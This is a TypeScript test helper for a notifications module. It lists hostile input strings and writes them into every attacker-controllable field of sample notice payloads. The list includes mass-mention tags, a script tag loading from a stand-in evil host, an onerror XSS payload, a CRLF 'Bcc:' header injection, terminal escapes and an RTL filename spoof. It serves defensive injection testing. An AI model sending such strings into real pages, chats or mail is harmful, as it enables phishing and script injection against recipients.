/** A payload whose every text is replaced by an attacker's, as far as the schema allows. */
import { type NoticeEvent, NoticePayload } from '../../modules/notices/notice-events.schemas.ts'
import { samplePayload } from '../../modules/notifications/messages/sample-payloads.policy.ts'

/** Texts that a vendor, mail program or terminal might act on. */
export const hostileTexts = [
  '<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD> <https://evil.example|click>',
  '@everyone @here <@123456789012345678> <@&123456789012345678> [click](https://evil.example) <https://evil.example>',
  '@durov /start@bot https://evil.example evil.example <a href="https://evil.example">x</a> <tg-spoiler>x</tg-spoiler>',
  '[click](https://evil.example) <at>Ada</at> ![x](https://evil.example/x.png) **bold** # head',
  '</p><script src="https://evil.example/x.js"></script><img src=x onerror=alert(1)> &lt;b&gt; &#60;',
  'a\r\nBcc: evil@attacker.example\r\n\r\nbody\u0000\u001b]0;x\u0007\u2028\u202egnp.exe',
  '"} , "topic": "other" \\u0022 \\',
  '```code``` `x` _a_ *b* ~c~ ||d|| > e :tada: \\',
  'EVIL.EXAMPLE ftp://evil.example mailto:evil@attacker.example www.evil.example evil。example',
] as const

export function hostilePayload(event: NoticeEvent, text: string): NoticePayload {
  return NoticePayload.parse(replaceTexts(samplePayload(event), text))
}

/** Ids, times and enum values stay, because attackers can't choose them. */
const ours: ReadonlySet<string> = new Set([
  'event',
  'id',
  'runId',
  'severity',
  'source',
  'since',
  'retryAt',
  'sha',
  'rule',
])
const lengths: Record<string, number> = { code: 100, trigger: 50, kind: 50, role: 50, previousRole: 50, version: 50, currentVersion: 50, scopes: 100, title: 2_000, detail: 2_000, hint: 2_000, message: 2_000, reason: 2_000, findings: 2_000, differences: 2_000 } // biome-ignore format: a list

function replaceTexts(value: unknown, text: string, key = ''): unknown {
  if (ours.has(key)) return value
  if (typeof value === 'string') return text.slice(0, lengths[key] ?? 253)
  if (Array.isArray(value)) return Array.from({ length: 20 }, () => replaceTexts('', text, key))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, replaceTexts(each, text, name)]))
}
